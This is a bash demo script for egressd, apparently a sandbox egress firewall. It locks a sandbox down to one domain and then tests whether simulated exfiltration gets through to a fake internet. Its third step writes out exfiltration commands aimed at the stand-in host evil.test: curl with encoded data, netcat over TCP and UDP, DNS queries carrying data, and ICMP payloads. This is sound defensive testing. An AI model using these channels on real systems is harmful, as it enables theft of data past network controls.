#!/usr/bin/env bash
# The lock-down story, live: a sandbox starts with internet access, fetches
# what it needs, is locked down to one domain through egressd's admin API,
# and then an "untrusted" step tries to get data out over TLS, HTTP, raw
# TCP, UDP, DNS, IPv6 and ICMP. Each attempt is judged from the internet's
# side: the fake internet (demoserver) prints everything it receives.
#
#   sudo examples/lockdown/lockdown.sh        (or: make demo)
#
# Needs root, ip, nft, curl, nc, dig, ping and Go. Builds everything in a
# throwaway topology of network namespaces (topology.sh) with no uplink,
# and removes it on exit. Exit status 0 when every step went as expected.
# EGRESSD=path picks the binary (default bin/egressd, built if missing).
set -euo pipefail

here=$(cd "$(dirname "$0")" && pwd)
root=$(cd "$here/../.." && pwd)
. "$here/topology.sh"

if [ -t 1 ]; then
	green=$'\e[32m' red=$'\e[31m' bold=$'\e[1m' dim=$'\e[2m' off=$'\e[0m'
else
	green='' red='' bold='' dim='' off=''
fi

[ "$(id -u)" = 0 ] || { echo "lockdown.sh: needs root (network namespaces, nftables)" >&2; exit 2; }
for tool in ip nft curl nc dig ping go; do
	command -v "$tool" >/dev/null || { echo "lockdown.sh: needs $tool" >&2; exit 2; }
done

work=$(mktemp -d /tmp/egressd-lockdown.XXXXXX)
pids=()
cleanup() {
	local p
	for p in "${pids[@]}"; do
		kill "$p" 2>/dev/null || true
		wait "$p" 2>/dev/null || true
	done
	topo_down
	rm -rf "$work"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

egressd=${EGRESSD:-$root/bin/egressd}
if [ ! -x "$egressd" ]; then
	(cd "$root" && go build -o "$work/egressd" ./cmd/egressd)
	egressd=$work/egressd
fi
(cd "$root" && go build -o "$work/demoserver" ./examples/lockdown/demoserver)

topo_up "ld-$(od -An -N3 -tx1 /dev/urandom | tr -d ' \n')"
topo_server_addr 198.51.100.10/32 198.51.100.53/32 198.51.100.66/32 2001:db8::10/128 2001:db8::66/128

sock=$work/run/admin.sock
topo_config "$sock" "$work/state" 'mode = "allow-all"' >"$work/egressd.toml"
cat >"$work/lockdown.json" <<'JSON'
{"mode": "custom", "allow_domains": ["pkg.test"]}
JSON

inet_log=$work/internet.log
ip netns exec "$IN" "$work/demoserver" serve -ca "$work/ca.pem" -dns 198.51.100.53:53 \
	-zone pkg.test=198.51.100.10,2001:db8::10 -zone evil.test=198.51.100.66,2001:db8::66 >"$inet_log" 2>&1 &
pids+=($!)
ip netns exec "$FW" "$egressd" run -config "$work/egressd.toml" >"$work/egressd.log" 2>&1 &
egressd_pid=$!
pids+=("$egressd_pid")

# wait_ready: the admin API answers only once rules and proxy are up.
wait_ready() {
	local i
	for i in $(seq 100); do
		"$egressd" policy list -socket "$sock" >/dev/null 2>&1 && [ -s "$work/ca.pem" ] && return 0
		kill -0 "$egressd_pid" 2>/dev/null || break
		sleep 0.1
	done
	echo "lockdown.sh: egressd did not become ready:" >&2
	cat "$work/egressd.log" >&2
	exit 1
}
wait_ready

failures=0
step() { printf '\n%s== %s%s\n' "$bold" "$*" "$off"; }
# show CMD...: print a command as one could type it (work paths shortened).
show() {
	local a line=''
	for a in "$@"; do
		a=${a//"$work/"/}
		case $a in
		*[[:space:]\'\"\|\&\;\?\*\$]*) a="'${a//\'/\'\\\'\'}'" ;;
		esac
		line+=" $a"
	done
	printf '%s   $%s%s\n' "$dim" "$line" "$off"
}
in_sandbox() { ip netns exec "$SB" "$@"; }

# seen MARKER: did the internet receive anything carrying MARKER?
seen() { grep -q -- "$1" "$inet_log"; }

# attempt WANT LABEL MARKER CMD...: run CMD in the sandbox, then judge by
# what the internet saw (by the exit status when MARKER is empty: ICMP).
attempt() {
	local want=$1 label=$2 marker=$3 got
	shift 3
	show "$@"
	if in_sandbox "$@" >"$work/out" 2>&1; then got=passed; else got=failed; fi
	sleep 0.3
	if [ -n "$marker" ]; then
		if seen "$marker"; then got=allowed; else got=blocked; fi
	elif [ "$got" = passed ]; then got=allowed; else got=blocked; fi
	if [ "$got" = "$want" ]; then
		printf '   %-42s %s%s%s\n' "$label" "$green" "$got" "$off"
	else
		printf '   %-42s %s%s (expected %s)%s\n' "$label" "$red" "$got" "$want" "$off"
		sed 's/^/      /' "$work/out"
		failures=$((failures + 1))
	fi
}

step "1. allow-all: the sandbox fetches what it needs"
show egressd policy list
"$egressd" policy list -socket "$sock" | sed 's/^/   /'
attempt allowed "download a package (1 MB over TLS)" "/tool.tar.gz" \
	curl -sS --max-time 10 --cacert "$work/ca.pem" -o /dev/null --resolve pkg.test:443:198.51.100.10 \
	"https://pkg.test/tool.tar.gz?size=1000000"
attempt allowed "reach any other site" "/anything" \
	curl -sS --max-time 3 --cacert "$work/ca.pem" --resolve evil.test:443:198.51.100.66 https://evil.test/anything

# A connection opened now, while everything is allowed, stays open.
in_sandbox "$work/demoserver" tick -addr 198.51.100.66:9000 -every 100ms >"$work/tick.log" 2>&1 &
pids+=($!)
sleep 0.5
show curl --unix-socket "$sock" http://egressd/v1/connections
curl -sS --unix-socket "$sock" http://egressd/v1/connections | sed 's/^/   /'

step "2. lock down through the admin API: only pkg.test from now on"
show cat "$work/lockdown.json"
sed 's/^/   /' "$work/lockdown.json"
show egressd policy set -sandbox sb1 -f "$work/lockdown.json"
"$egressd" policy set -socket "$sock" -sandbox sb1 -f "$work/lockdown.json" | sed 's/^/   /'
sleep 1
ticks_at_1s=$(grep -c 'data="tick' "$inet_log" || true)
sleep 1
ticks_at_2s=$(grep -c 'data="tick' "$inet_log" || true)
if [ "$ticks_at_1s" = "$ticks_at_2s" ]; then
	printf '   %-42s %s%s%s %s(%s)%s\n' "live connection opened in allow-all" "$green" "cut" "$off" "$dim" "$(tail -n1 "$work/tick.log")" "$off"
else
	printf '   %-42s %s%s%s\n' "live connection opened in allow-all" "$red" "STILL DELIVERING" "$off"
	failures=$((failures + 1))
fi
attempt allowed "the allowed domain still works" "/still-ok" \
	curl -sS --max-time 3 --cacert "$work/ca.pem" --resolve pkg.test:443:198.51.100.10 https://pkg.test/still-ok

step "3. untrusted code tries to get data out"
attempt blocked "TLS to a denied name" "exfil-tls" \
	curl -sS --max-time 3 -k --resolve evil.test:443:198.51.100.66 "https://evil.test/exfil-tls?d=c2VjcmV0"
attempt blocked "TLS, denied name, allowed address" "exfil-front" \
	curl -sS --max-time 3 -k --resolve evil.test:443:198.51.100.10 "https://evil.test/exfil-front"
attempt blocked "TLS without a name (bare IP)" "exfil-nosni" \
	curl -sS --max-time 3 -k "https://198.51.100.66/exfil-nosni"
attempt blocked "HTTP to a denied Host" "exfil-http" \
	curl -sS --max-time 3 --fail --resolve evil.test:80:198.51.100.66 "http://evil.test/exfil-http"
attempt blocked "HTTP, Host: evil.test to pkg.test's IP" "exfil-host" \
	curl -sS --max-time 3 --fail -H "Host: evil.test" "http://198.51.100.10/exfil-host"
attempt blocked "raw TCP" "exfil-tcp" \
	sh -c 'echo exfil-tcp | nc -w 2 -q 1 198.51.100.66 9000'
attempt blocked "UDP" "exfil-udp" \
	sh -c 'echo exfil-udp | nc -u -w 1 198.51.100.66 9001'
attempt blocked "DNS query carrying data" "exfil-dns" \
	dig +time=1 +tries=1 @198.51.100.53 exfil-dns-c2VjcmV0.evil.test
attempt blocked "DNS over TCP" "exfil-tdns" \
	dig +tcp +time=1 +tries=1 @198.51.100.53 exfil-tdns.evil.test
attempt blocked "IPv6 TLS" "exfil-v6" \
	curl -sS --max-time 3 -k --resolve "evil.test:443:[2001:db8::66]" "https://evil.test/exfil-v6"
attempt blocked "IPv6 raw TCP" "exfil-tcp6" \
	sh -c 'echo exfil-tcp6 | nc -w 2 -q 1 2001:db8::66 9000'
attempt blocked "IPv6 UDP" "exfil-udp6" \
	sh -c 'echo exfil-udp6 | nc -u -w 1 2001:db8::66 9001'
attempt blocked "ICMP echo with a payload" "" \
	ping -c 1 -W 1 -p 73656372657421 198.51.100.66

step "4. what the internet received after the lock-down"
if grep -n . "$inet_log" | grep -q exfil; then
	printf '   %sLEAKED:%s\n' "$red" "$off"
	grep exfil "$inet_log" | sed 's/^/   /'
	failures=$((failures + 1))
else
	printf '   %snothing from the untrusted step%s (the internet log holds %d lines, none with "exfil")\n' \
		"$green" "$off" "$(wc -l <"$inet_log")"
fi

step "5. reset: back to the config file's policy"
show egressd policy reset -sandbox sb1
"$egressd" policy reset -socket "$sock" -sandbox sb1 | sed 's/^/   /'
"$egressd" policy list -socket "$sock" | sed 's/^/   /'

echo
if [ "$failures" -eq 0 ]; then
	printf '%severy step went as expected%s\n' "$green$bold" "$off"
else
	printf '%s%d step(s) did not go as expected%s; egressd log:\n' "$red$bold" "$failures" "$off"
	tail -n 30 "$work/egressd.log"
	exit 1
fi
